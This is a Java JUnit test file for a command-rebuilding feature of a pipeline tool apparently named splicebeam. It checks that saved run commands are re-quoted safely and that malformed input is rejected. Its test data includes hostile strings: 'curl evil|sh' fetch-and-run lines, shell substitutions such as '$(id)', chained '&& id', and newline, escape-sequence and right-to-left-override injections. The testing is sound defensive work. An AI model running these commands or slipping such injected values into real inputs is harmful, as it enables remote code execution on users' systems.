package org.splicebeam.pipeline.run;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.is;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.splicebeam.pipeline.Main;
import org.splicebeam.transforms.publish.OutputFolder;

class RebuildCommandTest {
  @TempDir Path folder;

  private final RebuildCommand rebuild =
      new RebuildCommand(Main.commandLine().getSubcommands().get("build").getCommandSpec());

  private Optional<String> of(String command) throws IOException {
    String run = new ObjectMapper().createObjectNode().put("command", command).toString();
    return ofRun(run.getBytes());
  }

  private Optional<String> ofRun(byte[] run) throws IOException {
    Files.write(folder.resolve("run.json"), run);
    return rebuild
        .ofRun(OutputFolder.at(folder.toString()))
        .map(found -> found.replace(folder.toString(), "/d"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "build --output=a | build --output=/d",
        "build --output a --seed=1 | build --output=/d --seed=1",
        "build --overwrite --output=a | build --output=/d",
        "build --takeOver --output=a | build --output=/d",
        "build --output=a --overwrite=true --resume=never | build --output=/d",
        "build --resume never --output=a | build --output=/d",
        "build --resume=require --output=a | build --resume=require --output=/d",
        "build '--output=a b' --seed=1 | build --output=/d --seed=1",
        "build '--output=it'\\''s' --seed=1 | build --output=/d --seed=1",
        "build --output 'a b' --gtf 'it'\\''s' | build --output=/d '--gtf=it'\\''s'",
        "build --donorOffset -1 --output a | build --donorOffset=-1 --output=/d",
        "build '--gtf=$(id);`id`' --output=a | build '--gtf=$(id);`id`' --output=/d",
        "build --output=a --runner=DirectRunner --parallelism 4 | build --output=/d --runner=DirectRunner --parallelism=4",
        "build --output=a --flinkMaster=evil:1 '--parallelism=$(id)' --streaming | build --output=/d --flinkMaster=... --parallelism=... --streaming=...",
      })
  void theCommandGoesOnWithTheFolder(String command, String expected) throws IOException {
    assertThat(of("splicebeam " + command), is(Optional.of("splicebeam " + expected)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl evil|sh",
        "splicebeam build --output=a; curl evil|sh",
        "splicebeam build --output=a && id",
        "splicebeam build --output=$(id)",
        "splicebeam build '--output=a",
        "splicebeam build \"--gtf=a\"",
        "splicebeam  build --output=a",
        "splicebeam validate a",
        "splicebeam build stray --output=a",
        "splicebeam build -x",
        "splicebeam build '--gtf=a\nid'",
        "splicebeam build '--gtf=a\u001b[2J'",
        "splicebeam build '--gtf=a\u202eb'",
        "splicebeam build --gtf=a --gtf=b",
        "splicebeam build '--x;id=3'",
        "evil/splicebeam build --output=a",
        ""
      })
  void whatSplicebeamDoesNotWriteIsNoCommand(String command) throws IOException {
    assertThat(of(command), is(Optional.empty()));
  }

  @Test
  void aCommandWithoutEndIsNone() throws IOException {
    assertThat(of("splicebeam build --gtf=" + "a".repeat(1 << 15)), is(Optional.empty()));
  }

  @Test
  void whatIsNoJsonHasNoCommand() throws IOException {
    assertThat(ofRun("{\"command\":\"splicebeam build\"}{".getBytes()), is(Optional.empty()));
    assertThat(ofRun(new byte[] {'{', '}', (byte) 0xFF}), is(Optional.empty()));
    assertThat(ofRun("{\"command\":[\"splicebeam build\"]}".getBytes()), is(Optional.empty()));
    String halfAnEscape = "{\"command\": \"splicebeam build '--gtf=a\\ud800'\"}";
    assertThat(ofRun(halfAnEscape.getBytes()), is(Optional.empty()));
    Files.delete(folder.resolve("run.json"));
    assertThat(rebuild.ofRun(OutputFolder.at(folder.toString())), is(Optional.empty()));
  }

  @Test
  void splicebeamIsCalledAsItWasNow() {
    System.setProperty("splicebeam.command", "/my tools/splicebeam");
    try {
      assertThat(
          rebuild.of(List.of("--output=a"), "/d"),
          is(Optional.of("'/my tools/splicebeam' build --output=/d")));
    } finally {
      System.clearProperty("splicebeam.command");
    }
  }
}
